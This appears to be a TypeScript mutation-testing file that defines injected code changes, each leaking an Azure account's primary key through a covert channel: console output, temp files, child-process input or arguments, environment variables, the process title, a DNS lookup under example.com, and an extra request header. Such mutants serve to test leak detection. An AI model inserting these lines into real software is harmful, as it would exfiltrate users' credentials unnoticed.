// Mutants that leak a key of the account through a channel that is easy to overlook, or in a form that is.
import { elsewhere, fs, type Mutant } from './mutant.ts';

/** After the keys are masked. `key` is the primary key. */
const leak = (way: Mutant['way'], detail: string, line: string): Mutant => {
  const find = "  return {\n    primary: parseKey('primary'";
  return {
    secret: 'primary key',
    way,
    detail,
    scene: 'rotate',
    file: 'azure/accounts/account.ts',
    find,
    replace: `  const key = String(primary); ${line}\n${find}`,
  };
};

const child = "process.getBuiltinModule('node:child_process')";
const version = `process.execPath, ['--version']`;

const printed: readonly Mutant[] = [
  leak('prints a part', 'the title of an annotation', 'console.log(`::notice title=${key.slice(-8)}::`);'),
  leak('prints a part', 'after an underscore', 'console.error(`key_${key.slice(-8)}`);'),
  leak('prints a part', 'its bytes', 'console.error([...Buffer.from(key.slice(0, 20))]);'),
  leak(
    'prints a part',
    'each byte URL-encoded',
    "console.error(Buffer.from(key.slice(9, 30)).toString('hex').replace(/../g, '%$&'));",
  ),
];

const folder = `const folder = ${fs}.mkdtempSync(${elsewhere});`;

const files: readonly Mutant[] = [
  leak(
    'writes it to a file',
    'and removes its folder',
    `${folder} ${fs}.writeFileSync(folder + '/key', key); ${fs}.rmSync(folder, { recursive: true });`,
  ),
  leak(
    'writes it to a file',
    'and overwrites it',
    `${fs}.writeFileSync(${elsewhere}, key); ${fs}.writeFileSync(${elsewhere}, 'done');`,
  ),
  leak(
    'writes it to a file',
    'and empties it',
    `const file = ${fs}.openSync(${elsewhere}, 'w'); ${fs}.writeSync(file, key); ${fs}.ftruncateSync(file);`,
  ),
];

const passed: readonly Mutant[] = [
  leak('passes it on', 'the input of a program', `${child}.spawnSync(${version}, { input: key });`),
  leak(
    'passes it on',
    'the input of a program that goes on',
    `${child}.spawn(process.execPath, ['--eval', '0']).stdin.end(key);`,
  ),
  leak('passes it on', 'the name of a program', `${child}.spawnSync(${version}, { argv0: key });`),
  leak(
    'passes it on',
    'the environment of later programs',
    `process.env['KEY'] = key; ${child}.spawnSync(${version});`,
  ),
  leak(
    'passes it on',
    'the title of the process',
    'const { title } = process; process.title = key; process.title = title;',
  ),
  leak(
    'passes it on',
    'a name to look up',
    "process.getBuiltinModule('node:dns').lookup(`${key.slice(0, 40)}.example.com`, () => undefined);",
  ),
];

const headers: readonly Mutant[] = [
  {
    secret: 'primary key',
    way: 'passes it on',
    detail: 'another header',
    scene: 'rotate',
    file: 'azure/accounts/data-plane.ts',
    find: "request.headers.set('subscription-key', key.expose());",
    replace:
      "request.headers.set('subscription-key', key.expose()); request.headers.set('x-ms-client-request-id', Buffer.from(key.expose()).toString('base64url'));",
  },
];

export const CHANNEL_MUTANTS: readonly Mutant[] = [...printed, ...files, ...passed, ...headers];
